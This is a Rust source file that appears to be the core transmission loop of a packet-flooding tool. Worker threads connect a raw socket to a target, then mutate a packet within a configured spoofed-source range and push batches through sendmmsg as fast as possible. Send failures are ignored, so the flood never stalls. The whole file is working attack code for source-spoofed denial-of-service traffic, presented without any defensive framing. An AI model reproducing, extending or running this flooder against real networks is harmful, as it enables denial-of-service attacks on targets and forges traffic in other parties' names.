//! The per-worker transmission loop: connect once, build the batch once,
//! then mutate and submit until the stop flag is raised.

use std::io;
use std::net::SocketAddrV4;

use socket2::{SockAddr, Socket};
use tracing::{debug, info, Level};

use crate::config::Config;
use crate::error::FloodError;
use crate::hextools::format_hexdump;
use crate::packet::{self, build, Mutator, PacketBuffer};
use crate::runner::StopFlag;

/// The write side of a raw socket, shared by every worker.
pub trait Transmit: Sync {
    /// Fixes the peer so that later writes need no address.
    fn connect(&self, destination: SocketAddrV4) -> io::Result<()>;

    /// Submits every descriptor of `batch` as its own datagram and
    /// returns how many the kernel accepted.
    fn send_batch(&self, batch: &mut Batch) -> io::Result<usize>;
}

impl Transmit for Socket {
    fn connect(&self, destination: SocketAddrV4) -> io::Result<()> {
        Socket::connect(self, &SockAddr::from(destination))
    }

    #[cfg(target_os = "linux")]
    fn send_batch(&self, batch: &mut Batch) -> io::Result<usize> {
        use std::os::fd::AsRawFd;

        let headers = batch.headers.as_mut_ptr();
        let len = batch.headers.len() as libc::c_uint;
        // SAFETY: every header points at one iovec of `batch`, and every
        // iovec at its packet; both outlive the call.
        let sent = unsafe { libc::sendmmsg(self.as_raw_fd(), headers, len, 0) };
        if sent < 0 {
            return Err(io::Error::last_os_error());
        }
        Ok(sent as usize)
    }

    #[cfg(not(target_os = "linux"))]
    fn send_batch(&self, batch: &mut Batch) -> io::Result<usize> {
        let mut sent = 0;
        for _ in 0..batch.len() {
            match self.send(batch.packet().as_bytes()) {
                Ok(_) => sent += 1,
                Err(err) if sent == 0 => return Err(err),
                Err(_) => break,
            }
        }
        Ok(sent)
    }
}

/// One packet buffer referenced by `size` descriptors.
///
/// The descriptors are built once and never reallocated, so the kernel
/// always reads the packet as last mutated.
pub struct Batch {
    packet: Box<PacketBuffer>,
    iovecs: Vec<libc::iovec>,
    #[cfg(target_os = "linux")]
    headers: Vec<libc::mmsghdr>,
}

impl Batch {
    pub fn new(packet: Box<PacketBuffer>, size: usize) -> Self {
        let base = packet.as_bytes().as_ptr() as *mut libc::c_void;
        let mut iovecs = Vec::with_capacity(size);
        iovecs.resize(
            size,
            libc::iovec {
                iov_base: base,
                iov_len: PacketBuffer::LEN,
            },
        );

        #[cfg(target_os = "linux")]
        let headers = iovecs
            .iter_mut()
            .map(|iovec| {
                // SAFETY: all-zero is a valid mmsghdr (null pointers, zero lengths).
                let mut header: libc::mmsghdr = unsafe { std::mem::zeroed() };
                header.msg_hdr.msg_iov = iovec as *mut libc::iovec;
                header.msg_hdr.msg_iovlen = 1;
                header
            })
            .collect();

        Batch {
            packet,
            iovecs,
            #[cfg(target_os = "linux")]
            headers,
        }
    }

    pub fn len(&self) -> usize {
        self.iovecs.len()
    }

    pub fn is_empty(&self) -> bool {
        self.iovecs.is_empty()
    }

    pub fn packet(&self) -> &PacketBuffer {
        &self.packet
    }

    pub fn packet_mut(&mut self) -> &mut PacketBuffer {
        &mut self.packet
    }

    pub fn iovecs(&self) -> &[libc::iovec] {
        &self.iovecs
    }

    fn prefetch(&self) {
        packet::prefetch(&*self.packet);
        packet::prefetch(self.iovecs.as_slice());
        #[cfg(target_os = "linux")]
        packet::prefetch(self.headers.as_slice());
    }
}

/// What one worker did before it stopped.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct WorkerStats {
    pub batches: u64,
    pub failed_batches: u64,
    pub packets: u64,
}

impl std::ops::AddAssign for WorkerStats {
    fn add_assign(&mut self, other: Self) {
        self.batches += other.batches;
        self.failed_batches += other.failed_batches;
        self.packets += other.packets;
    }
}

/// Runs one worker until `stop` is raised.
///
/// Only the initial connect can fail; submission errors are counted and
/// otherwise ignored so a full queue never stalls the loop.
pub fn transmit_loop<S>(
    worker: usize,
    config: &Config,
    socket: &S,
    stop: &StopFlag,
) -> Result<WorkerStats, FloodError>
where
    S: Transmit + ?Sized,
{
    socket
        .connect(config.destination)
        .map_err(|source| FloodError::Connect {
            addr: config.destination,
            source,
        })?;
    info!(worker, destination = %config.destination, "socket bound");

    let template = config.packet_template()?;
    let packet = build(&template);
    if tracing::enabled!(Level::DEBUG) {
        debug!(worker, "first packet:\n{}", format_hexdump(packet.as_bytes()));
    }

    let mut mutator = Mutator::new(&template, config.spoof_range());
    let mut batch = Batch::new(packet, config.batch_size);
    if config.prefetch {
        batch.prefetch();
    }

    let mut stats = WorkerStats::default();
    while !stop.is_raised() {
        mutator.mutate(batch.packet_mut());
        match socket.send_batch(&mut batch) {
            Ok(sent) => stats.packets += sent as u64,
            Err(_) => stats.failed_batches += 1,
        }
        stats.batches += 1;
    }

    debug!(worker, ?stats, "worker stopped");
    Ok(stats)
}
